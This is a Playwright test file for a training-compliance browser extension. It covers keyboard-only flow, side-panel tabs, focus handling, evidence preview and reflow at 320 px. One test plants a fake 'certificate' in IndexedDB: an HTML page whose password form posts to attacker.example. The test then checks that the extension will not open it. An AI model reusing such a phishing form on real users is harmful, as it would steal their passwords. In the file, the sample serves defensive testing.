// Keyboard and reflow (issue 13, items 6–7 and 9): the whole completion-issue flow by keyboard alone;
// the side panel's tasks as WAI-ARIA tabs, the one shown remembered; focus after each action goes to
// its result, and Undo after a Delete is the next Tab stop; Preview shows only real pictures and PDFs,
// never as a page of the extension (issue 14, item 1); no sideways scrolling at 320 px.
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { PERSONA } from '../fixtures/persona';
import { makeCertificatePdf } from '../fixtures/sites/learnupon/pdf';
import { axeViolations } from './axe';
import { cspErrors, launch, realErrors, type Harness } from './harness';
import { collected, nextFlowPage, readPack, scrollsSideways } from './flow-helpers';
import JSZip from 'jszip';

let h: Harness;
beforeAll(async () => {
  h = await launch();
});
afterAll(async () => {
  await h?.close();
});

const PNG = readFileSync(new URL('../../public/icon/48.png', import.meta.url));

/** Presses Tab until `selector` has focus; the number of presses, or throws after `max`. */
async function tabTo(page: Page, selector: string, max = 80): Promise<number> {
  for (let presses = 1; presses <= max; presses++) {
    await page.keyboard.press('Tab');
    if (await page.evaluate((s) => document.activeElement?.matches(s) ?? false, selector)) return presses;
  }
  throw new Error(`${selector} not reached in ${max} Tab presses`);
}

const isFocused = (page: Page, selector: string) => page.evaluate((s) => document.activeElement?.matches(s) ?? false, selector);

describe('the whole flow by keyboard alone', () => {
  it('from the popup to the downloaded pack and the email links, with Tab and Enter only', async () => {
    const popup = await h.openExtensionPage('popup.html');
    await popup.waitForSelector('[data-mtc-action="report-issue"]');
    await popup.bringToFront();
    await tabTo(popup, '[data-mtc-action="report-issue"][data-mtc-course="UCL Fire Safety"]');
    const opened = nextFlowPage(h);
    await popup.keyboard.press('Enter');
    const flow = await opened;
    await flow.bringToFront();
    await collected(flow);
    await tabTo(flow, '[data-mtc-action="download-pack"]');
    const [download] = await Promise.all([flow.waitForEvent('download'), flow.keyboard.press('Enter')]);
    const pack = await readPack(await JSZip.loadAsync(readFileSync((await download.path())!)));
    expect(pack.mail.from?.address).toBe(PERSONA.email);
    expect(pack.names).toContain('training-history.xlsx');
    // Focus went to the result; the next Tab is the first way to open the email.
    await flow.waitForSelector('[data-mtc-export="done"]');
    await expect.poll(() => flow.evaluate(() => document.activeElement?.getAttribute('data-mtc-flow'))).toBe('result');
    await flow.keyboard.press('Tab');
    expect(await isFocused(flow, '[data-mtc-action="open-outlook-web"]')).toBe(true);
    await flow.close();
  });
});

describe('the side panel by task', () => {
  it('Courses, Evidence and Help are tabs: arrow keys switch, the panel follows in the Tab order, the task is remembered', async () => {
    const panel = await h.openExtensionPage('sidepanel.html');
    await panel.waitForSelector('[role="tablist"]');
    expect(await panel.locator('[role="tab"]').allInnerTexts()).toEqual(['Courses', 'Evidence', 'Help']);
    expect(await panel.locator('[role="tab"][aria-selected="true"]').innerText()).toBe('Courses');
    await tabTo(panel, '[role="tab"][aria-selected="true"]');
    await panel.keyboard.press('ArrowRight');
    expect(await panel.locator('[role="tab"][aria-selected="true"]').innerText()).toBe('Evidence');
    expect(await isFocused(panel, '[role="tab"][data-mtc-view="evidence"]')).toBe(true);
    expect(await panel.locator('[data-mtc-section="locker"]').isVisible()).toBe(true);
    expect(await panel.locator('[data-mtc-list="courses"]').isVisible()).toBe(false);
    await panel.keyboard.press('Tab');
    expect(await isFocused(panel, '[role="tabpanel"][data-mtc-panel="evidence"]')).toBe(true);
    expect(await axeViolations(panel)).toEqual([]);
    await panel.focus('[role="tab"][aria-selected="true"]');
    await panel.keyboard.press('End');
    expect(await panel.locator('[role="tab"][aria-selected="true"]').innerText()).toBe('Help');
    expect(await panel.locator('[data-mtc-section="troubleshoot"]').isVisible()).toBe(true);
    expect(await axeViolations(panel)).toEqual([]);
    // The team page stays one link away in every view.
    expect(await panel.locator('[data-mtc-link="team"]').isVisible()).toBe(true);
    await panel.reload();
    await panel.waitForSelector('[role="tab"][aria-selected="true"]');
    expect(await panel.locator('[role="tab"][aria-selected="true"]').innerText()).toBe('Help');
    await panel.keyboard.press('Home'); // no focus in the list: nothing changes
    await panel.click('[role="tab"][data-mtc-view="courses"]');
    await panel.close();
  });
});

describe('the evidence locker', () => {
  async function lockerWith(files: { name: string; mimeType: string; buffer: Buffer }[]): Promise<Page> {
    const panel = await h.openExtensionPage('sidepanel.html');
    await panel.click('[role="tab"][data-mtc-view="evidence"]');
    await panel.setInputFiles('[data-mtc-input="evidence"]', files);
    await expect.poll(() => panel.locator('[data-mtc-locker-status] .ok').count()).toBe(files.length);
    return panel;
  }

  it('after Fetch and after a file is added, focus is on the result; after Delete, Undo is the next Tab stop', async () => {
    const panel = await lockerWith([{ name: 'keep-me.png', mimeType: 'image/png', buffer: PNG }]);
    await expect.poll(() => panel.evaluate(() => document.activeElement?.hasAttribute('data-mtc-locker-status'))).toBe(true);
    const row = panel.locator('[data-mtc-list="evidence"] tbody tr', { hasText: 'keep-me.png' });
    await row.locator('[data-mtc-action="delete-evidence"]').focus();
    await panel.keyboard.press('Enter');
    await expect.poll(() => row.count()).toBe(0);
    await expect.poll(() => panel.evaluate(() => document.activeElement?.hasAttribute('data-mtc-locker-status'))).toBe(true);
    expect(await panel.locator('[data-mtc-undo]').innerText()).toMatch(/Deleted “keep-me\.png”/);
    await panel.keyboard.press('Tab');
    expect(await isFocused(panel, '[data-mtc-action="undo-delete"]')).toBe(true);
    expect(await axeViolations(panel)).toEqual([]);
    await panel.keyboard.press('Enter');
    await expect.poll(() => row.count()).toBe(1);
    expect(await panel.locator('[data-mtc-locker-status] .ok').innerText()).toMatch(/back in your evidence locker/);

    // Fetch: focus on what came of it.
    await panel.click('[data-mtc-action="fetch-cybsafe"]');
    await panel.waitForSelector('[data-mtc-locker-status] .ok, [data-mtc-locker-status] .error', { timeout: 45_000 });
    await expect.poll(() => panel.evaluate(() => document.activeElement?.hasAttribute('data-mtc-locker-status'))).toBe(true);
    await panel.close();
  });

  it('Preview shows a picture in a dialog, saves a PDF as a download, and never opens anything else', async () => {
    const panel = await lockerWith([
      { name: 'photo.png', mimeType: 'image/png', buffer: PNG },
      { name: 'cert.pdf', mimeType: 'application/pdf', buffer: Buffer.from(makeCertificatePdf({ name: 'A', courseTitle: 'B', completedOn: '2026-01-01', certificateId: 'X' })) },
    ]);
    const pagesBefore = h.context.pages().length;
    const photo = panel.locator('[data-mtc-list="evidence"] tbody tr', { hasText: 'photo.png' });
    await photo.locator('[data-mtc-action="preview"]').click();
    const dialog = panel.locator('dialog[data-mtc-preview="image"]');
    await dialog.waitFor();
    expect(await dialog.locator('img').evaluate((img) => (img as HTMLImageElement).naturalWidth)).toBe(48);
    expect(await axeViolations(panel)).toEqual([]);
    await panel.keyboard.press('Escape');
    await dialog.waitFor({ state: 'detached' });
    expect(await isFocused(panel, '[data-mtc-action="preview"]')).toBe(true);

    const pdf = panel.locator('[data-mtc-list="evidence"] tbody tr', { hasText: 'cert.pdf' });
    const [download] = await Promise.all([panel.waitForEvent('download'), pdf.locator('[data-mtc-action="preview"]').click()]);
    expect(download.suggestedFilename()).toBe('cert.pdf');
    expect(readFileSync((await download.path())!).subarray(0, 5).toString()).toBe('%PDF-');

    // A "certificate" that is really a web page (as a crafted backup could plant): never opened.
    await panel.evaluate(async () => {
      const db = await new Promise<IDBDatabase>((resolve) => {
        const req = indexedDB.open('mandatory-training-companion');
        req.onsuccess = () => resolve(req.result);
      });
      const html = '<!doctype html><form action="https://attacker.example/"><input type=password name=p></form>';
      const data = new Blob([html], { type: 'text/html' });
      const item = { id: 'planted', kind: 'certificate', course: null, completedOn: null, name: 'crafted.pdf', contentType: 'text/html', size: data.size, sourceUrl: '', addedAt: new Date().toISOString(), countsForCompliance: true, data };
      await new Promise<void>((resolve) => {
        const tx = db.transaction('evidence', 'readwrite');
        tx.objectStore('evidence').put(item);
        tx.oncomplete = () => resolve();
      });
    });
    await panel.reload();
    await panel.waitForSelector('[data-mtc-list="evidence"]');
    const planted = panel.locator('[data-mtc-list="evidence"] tbody tr', { hasText: 'crafted.pdf' });
    let downloaded = false;
    panel.on('download', () => (downloaded = true));
    await planted.locator('[data-mtc-action="preview"]').click();
    await expect.poll(() => panel.locator('[data-mtc-locker-status] .error').innerText().catch(() => '')).toMatch(/is not a PDF or a picture, so it is not opened/);
    await panel.waitForTimeout(500);
    expect(downloaded).toBe(false);
    expect(h.context.pages().length).toBe(pagesBefore);
    expect(await panel.locator('dialog').count()).toBe(0);
    await panel.close();
  });
});

describe('reflow at 320 px (WCAG 1.4.10)', () => {
  it('the popup, every side panel view and the flow page have no sideways scrolling', async () => {
    const popup = await h.context.newPage();
    await popup.setViewportSize({ width: 320, height: 700 });
    await popup.goto(h.extensionUrl('popup.html'));
    await popup.waitForSelector('[data-mtc-list="courses"] li');
    const p = await scrollsSideways(popup);
    expect(p.scroll, JSON.stringify(p.wide)).toBeLessThanOrEqual(p.client);
    await popup.close();

    const panel = await h.context.newPage();
    await panel.setViewportSize({ width: 320, height: 700 });
    await panel.goto(h.extensionUrl('sidepanel.html'));
    await panel.waitForSelector('[role="tablist"]');
    for (const view of ['courses', 'evidence', 'help']) {
      await panel.click(`[role="tab"][data-mtc-view="${view}"]`);
      if (view === 'courses') for (const summary of await panel.locator('[data-mtc-list="courses"] details > summary').all()) await summary.click();
      const s = await scrollsSideways(panel);
      expect(s.scroll, `${view}: ${JSON.stringify(s.wide)}`).toBeLessThanOrEqual(s.client);
    }
    await panel.click('[role="tab"][data-mtc-view="courses"]');
    await panel.close();

    const flow = await h.context.newPage();
    await flow.setViewportSize({ width: 320, height: 700 });
    await flow.goto(h.extensionUrl('report.html?course=Prevent+at+UCL&course=Information+Security+Training&from=popup'));
    await collected(flow);
    let f = await scrollsSideways(flow);
    expect(f.scroll, JSON.stringify(f.wide)).toBeLessThanOrEqual(f.client);
    await Promise.all([flow.waitForEvent('download'), flow.click('[data-mtc-action="download-pack"]')]);
    await flow.waitForSelector('[data-mtc-export="done"]');
    f = await scrollsSideways(flow);
    expect(f.scroll, JSON.stringify(f.wide)).toBeLessThanOrEqual(f.client);
    expect(await axeViolations(flow)).toEqual([]);
    await flow.close();
  });
});

describe('console', () => {
  it('no CSP or console errors', () => {
    expect(cspErrors(h.consoleErrors)).toEqual([]);
    expect(realErrors(h.consoleErrors)).toEqual([]);
  });
});
